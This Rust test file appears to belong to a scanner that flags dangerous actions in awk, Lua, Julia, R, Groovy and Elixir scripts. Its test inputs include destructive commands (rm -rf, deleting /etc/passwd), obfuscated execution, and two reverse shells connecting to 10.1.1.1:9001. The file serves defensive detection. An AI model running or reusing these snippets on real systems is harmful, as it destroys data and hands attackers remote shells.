//! awk, Lua, Julia, R, Groovy, Elixir.

use super::{
    Language::{Awk, Elixir, Groovy, Julia, Lua, R},
    check,
};

#[test]
fn acts_of_awk() {
    check(
        Awk,
        &[
            ("BEGIN { system(\"rm -rf out\") }", &["shell rm -rf out"]),
            ("{ system(\"rm -rf \" $1) }", &["shell rm -rf $unknown"]),
            ("{ system($0) }", &["unknown"]),
            ("BEGIN { \"halt\" | getline x; print x }", &["shell halt"]),
            ("BEGIN { cmd = \"halt\"; cmd | getline; close(cmd) }", &["shell halt"]),
            ("{ print $1 > \"/etc/motd\" }", &["write /etc/motd"]),
            ("{ print >> \"a.log\" }", &["append a.log"]),
            ("BEGIN { print \"halt\" | \"sh\" }", &["shell printf '%s' 'halt\n' | sh"]),
            ("{ print $0 | \"sh\" }", &["shell printf '%s' \"$unknown\" | sh"]),
            ("{ print $1 | \"sort -n\" }", &["shell printf '%s' \"$unknown\" | sort -n"]),
            (
                "BEGIN{s=\"/inet/tcp/0/10.1.1.1/9001\";while(1){do{s|&getline c;if(c){while((c|&getline)>0)print $0|&s;close(c)}}while(c!=\"exit\")}}",
                &["unknown", "reverse"],
            ),
        ],
    );
    check(
        Awk,
        &[
            ("{ print $1, $NF }", &[]),
            ("/system\\(\"halt\"\\)/ { n++ } END { print n }", &[]),
            ("BEGIN { print \"rm -rf /\" }", &[]),
            ("# system(\"halt\")\n{ s += $2 } END { print s / NR }", &[]),
            ("$3 > 100 { print $1 }", &[]),
            ("BEGIN { FS = \",\"; OFS = \"\\t\" } NR > 1 { $1 = $1; print }", &[]),
            ("{ a[$1]++ } END { for (k in a) print k, a[k] }", &[]),
            ("{ gsub(/rm -rf/, \"trash\"); print toupper(substr($0, 1, 3)) }", &[]),
            ("BEGIN { if (1 > 2) print \"a\"; else printf \"%d\\n\", 3 }", &[]),
        ],
    );
}

#[test]
fn acts_of_lua() {
    check(
        Lua,
        &[
            ("os.execute('rm -rf out')", &["shell rm -rf out"]),
            ("os.execute [[rm -rf out]]", &["shell rm -rf out"]),
            ("local d = 'out' os.execute('rm -rf ' .. d)", &["shell rm -rf out"]),
            ("local f = io.popen('halt') print(f:read('*a'))", &["shell halt"]),
            ("os.remove('/etc/passwd')", &["same rm /etc/passwd"]),
            ("local f = io.open('/etc/motd', 'w') f:write('x') f:close()", &["write /etc/motd"]),
            ("load('os.execute(\"halt\")')()", &["shell halt"]),
            ("load(io.read('*a'))()", &["unknown"]),
            ("os['exe' .. 'cute']('halt')", &["shell halt"]),
            ("os.execute(string.char(104, 97, 108, 116))", &["shell halt"]),
            (
                "require('socket');local t=socket.tcp();t:connect('10.1.1.1','9001');os.execute('/bin/sh -i <&3 >&3 2>&3');",
                &["shell /bin/sh -i <&3 >&3 2>&3", "reverse"],
            ),
            ("for _, f in ipairs({'a', 'b'}) do os.remove(f) end", &["same rm a", "same rm b"]),
        ],
    );
    check(
        Lua,
        &[
            ("print('rm -rf /')", &[]),
            ("-- os.execute('halt')\nprint(1)", &[]),
            ("--[[ os.execute('halt') ]] print(1)", &[]),
            ("local t = { a = 1, ['b'] = 'halt' } print(t.a, #t)", &[]),
            ("print(os.date(), os.time(), _VERSION)", &[]),
            ("for i = 1, 3 do print(i .. ' halt') end", &[]),
        ],
    );
}

#[test]
fn acts_of_others() {
    check(
        Julia,
        &[
            ("rm(\"out\", recursive=true)", &["same rm -r -f out"]),
            ("run(`rm -rf out`)", &["shell rm -rf out"]),
            ("println(`rm -rf out`)", &[]),
            ("println(\"rm -rf /\")", &[]),
            ("write(\"/etc/motd\", \"x\")", &["write /etc/motd"]),
            ("foreach(rm, [\"a\", \"b\"])", &["same rm a", "same rm b"]),
        ],
    );
    check(
        R,
        &[
            ("system('rm -rf out')", &["shell rm -rf out"]),
            ("system2('rm', c('-rf', 'out'))", &["run rm -rf out"]),
            ("unlink('out', recursive = TRUE)", &["same rm -r -f out"]),
            ("file.remove('a.csv')", &["same rm a.csv"]),
            ("x <- paste('rm -rf', 'out'); system(x)", &["shell rm -rf out"]),
            ("cat('rm -rf /'); print(mean(c(1, 2)))", &[]),
        ],
    );
    check(
        Groovy,
        &[
            ("\"rm -rf out\".execute()", &["shell rm -rf out"]),
            ("['rm', '-rf', 'out'].execute().text", &["run rm -rf out"]),
            ("new File('out').deleteDir()", &["same rm -r -f out"]),
            ("Runtime.getRuntime().exec(\"halt\")", &["shell halt"]),
            ("new File('/etc/motd').text = 'x'", &["write /etc/motd"]),
            ("println 'rm -rf /'", &[]),
            ("println new File('a.txt').text", &["read a.txt"]),
        ],
    );
    check(
        Elixir,
        &[
            ("System.cmd(\"rm\", [\"-rf\", \"out\"])", &["run rm -rf out"]),
            ("System.shell(\"rm -rf out\")", &["shell rm -rf out"]),
            ("File.rm_rf!(\"out\")", &["same rm -r -f out"]),
            (":os.cmd('halt')", &["shell halt"]),
            ("os:cmd(\"halt\").", &["shell halt"]),
            ("IO.puts(\"rm -rf /\")", &[]),
            ("\"out\" |> File.rm_rf!()", &["same rm -r -f out"]),
        ],
    );
}
